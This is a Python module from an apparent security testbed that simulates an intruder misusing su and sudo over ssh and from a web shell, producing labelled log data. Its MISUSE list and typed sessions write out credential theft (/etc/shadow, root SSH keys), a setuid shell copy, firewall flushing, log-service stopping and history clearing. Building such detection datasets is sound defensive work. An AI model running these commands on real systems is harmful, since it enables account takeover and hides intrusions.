"""An intruder on a server: su and sudo misuse, over ssh with a stolen password and from a web shell's terminal.

Honest people and jobs keep off the server meanwhile (alone), so su and sudo lines of a step's time are the intruder's.
"""

import random
import subprocess
import time
from contextlib import contextmanager

from actors.colleagues import SSH
from attacks import webshell
from services.accounts import BUSY

LABELS = {
    "su": "attacker_change_user:escalate",
    "su_session": "attacker_change_user:escalate:escalated_command:escalated_sudo_command",
    "sudo": "escalate:escalated_command:escalated_sudo_command",
    "sudo_session": "escalate:escalated_command:escalated_sudo_command:escalated_sudo_session",
    "exec": "escalate:webshell_cmd",
}
MISUSE = """cat /etc/shadow;cat /etc/sudoers;ls -la /root;ls -laR /root/;cat /root/.ssh/authorized_keys;cat /root/.ssh/id_rsa;cat /root/.bash_history;cp /bin/bash /tmp/.b;chmod u+s /tmp/.b;tail /var/log/auth.log
grep -r password /etc;find / -maxdepth 2 -name id_rsa;cp /etc/shadow /tmp/s;tar czf /tmp/h.tgz /home;useradd --help;vim -c :!/bin/true -c q;python3 -c 'import os';id;whoami;sh -c id;bash -c 'cat /etc/shadow'
awk 'BEGIN {system("id")}';env /bin/true;find . -maxdepth 0 -exec id ;tee /etc/cron.d/zz;dd if=/etc/shadow of=/tmp/sh;crontab -l;cat /var/www/site/wp-config.php;mysqldump --version;nc -h;cat /etc/gshadow;base64 /etc/shadow
xxd /etc/shadow;systemctl stop rsyslog;rm -f /tmp/s;ip addr;iptables -F;touch /root/.x;passwd --help;unshadow /etc/passwd /etc/shadow;strings /etc/shadow;cut -d: -f1 /etc/shadow;-u www-data id;-u root /bin/sh -c id;visudo -c
ls /home;cat /etc/passwd;cat /etc/crontab;netstat -tulpn;ps aux;less /etc/shadow;head -n 3 /etc/shadow;nano /etc/passwd;ls /var/mail;cat /etc/openvpn/server.key;/bin/bash -c id;perl -e 'exec "/bin/id"';find /root -type f
cat /proc/1/environ;history -c;chown root /tmp/.b;mount;fdisk -l;cat /var/log/syslog;last;lastlog;wget -O /tmp/x http://127.0.0.1/;curl http://127.0.0.1/;chmod 777 /etc/hosts;echo ok""".replace("\n", ";").split(";")
BECOME = ["sudo su", "sudo su -", "sudo -i", "sudo -s", "sudo /bin/bash", "sudo -u root bash", "sudo bash -p"]
FOLDERS = ["/tmp", "/dev/shm", "/var/www", "/var/tmp", "/", "/var", "/home", ""]


@contextmanager
def alone(lab, host):
    """The right to an interactive session on `host` with nobody else's su and sudo about; cron's jobs see a file."""
    with lab.sessions[host.name]:
        busy = host.path(BUSY)
        busy.touch()
        try:
            yield
        finally:
            busy.unlink()


def _type(process, typed):
    for wait, text in typed:
        time.sleep(wait)
        try:
            process.stdin.write(text + "\n")
            process.stdin.flush()
        except BrokenPipeError:
            return


def _misuse(rng, count):
    """`count` commands through sudo, as typed by somebody in a hurry."""
    return [(rng.uniform(.3, .8), f"sudo {command} </dev/null >/dev/null 2>&1") for command in rng.sample(MISUSE, count)]


def _ssh_session(lab, host, person, name, source, typed):
    """One ssh session with a stolen password, as one step: what sshd says of it has no label, su and sudo have."""
    with alone(lab, host), lab.shared_address:
        with lab.journal.step(name, "ssh", [source], LABELS, hosts=[host.name]):
            process = subprocess.Popen(
                lab.attacker.command(["timeout", "60", "sshpass", "-p", person.password, "ssh", "-tt", "-b", source, *SSH, f"{person.login}@{host.address}"]),
                stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True, start_new_session=True)
            _type(process, [(1.5, "unset HISTFILE"), *typed, (.5, "exit"), (.5, "exit"), (.5, "exit")])
            try:
                process.stdin.close()
                process.wait(15)
            except (subprocess.TimeoutExpired, BrokenPipeError):
                process.kill()


def over_ssh(lab):
    """Sessions with the guessed password: list rights, read secrets, become root and others."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 700)
    hit = next(person for person in bed.people if person.weak)
    # `su` needs passwords: the intruder found some in files and in the web site's database.
    others = [person for person in bed.people if person is not hit]
    rounds = 1 if bed.short else 6
    for i in range(rounds):
        host = lab.intra if bed.short else lab.hosts[i % 3]
        source = (bed.intruder.address, bed.intruder.shared_address)[i % 2]
        folder = rng.choice(FOLDERS)
        typed = [(.6, "id"), (.3, f"cd {folder}"), (.6, "sudo -l"), (.8, hit.password), *_misuse(rng, 4 if bed.short else 8)]
        become = rng.choice(BECOME) if i else "sudo su -"
        typed += [(.8, become), (1, "id"), (.5, "cat /etc/shadow > /dev/null"), (.5, "su - " + others[i % len(others)].login), (1, "id"), (.4, "exit"), (.5, "exit")]
        victim = others[(i + 1) % len(others)]
        typed += [(.6, f"su - {victim.login}"), (1, victim.password), (1, "id"), (.4, "sudo -l"), (.7, victim.password), (2.2 if victim.sudo else 1, "ls"), (.4, "exit")]
        typed += [(.6, f"su {others[(i + 2) % len(others)].login}"), (1, "wrongguess"), (3, "su -"), (1, "toor"), (3, "id")]
        _ssh_session(lab, host, hit, f"ssh-misuse-{i}", source, typed)


def _from_web_typed(rng, people, person, number):
    """What the intruder types into a terminal of the web server's account: first as that account, then as `person`."""
    folder = rng.choice(FOLDERS)
    typed = [(.6, f"cd {folder}")] if folder and number else []
    if number % 3 == 1:
        typed += [(.5, "sudo -n -l"), (.5, "sudo su"), (.8, "123456"), (2.4, "\x03")]
    if number % 3 == 2:
        typed += [(.5, f"su {rng.choice(people).login}"), (.8, "Password1"), (2.8, "id")]
    # The password was cracked, or stood in a file.
    typed += [(.8, f"su {rng.choice(['- ', '', '-l '])}{person.login}" if number else f"su {person.login}"), (1, person.password), (.6, "id")]
    typed += [(.5, "sudo -l"), (.9, person.password), *_misuse(rng, 6)]
    typed += [(.8, rng.choice(BECOME)), (.8, "id"), (.4, "cat /etc/shadow > /dev/null"), (.5, f"su - {rng.choice(people).login}"), (.8, "id"), (.4, "exit"), (.4, "exit")]
    return [*typed, (.5, "exit"), (.5, "su root"), (.8, rng.choice(["password", "toor", "root"])), (3, "exit"), (.5, "exit")]


def from_web(lab, shells):
    """From the web server's account to a person's, and on to root: each terminal another way, from another folder."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 800)
    plain = [shell for shell in shells if shell[0] is lab.web][:1] + [shell for shell in shells if shell[0] is lab.intra][:1]
    admins = [person for person in bed.people if person.sudo]
    for i, shell in enumerate(plain * (1 if bed.short else 3)):
        host = shell[0]
        typed = _from_web_typed(rng, bed.people, admins[i % len(admins)], i)
        with alone(lab, host):
            recording = lab.journal.step(f"shell-misuse-{i}", "su", [], LABELS, hosts=[host.name])
            webshell.reverse(lab, shell, 4400 + i, [(0, recording.__enter__), *typed, (1, lambda r=recording: r.__exit__(None, None, None))],
                             ("pty", "script")[i % 2])
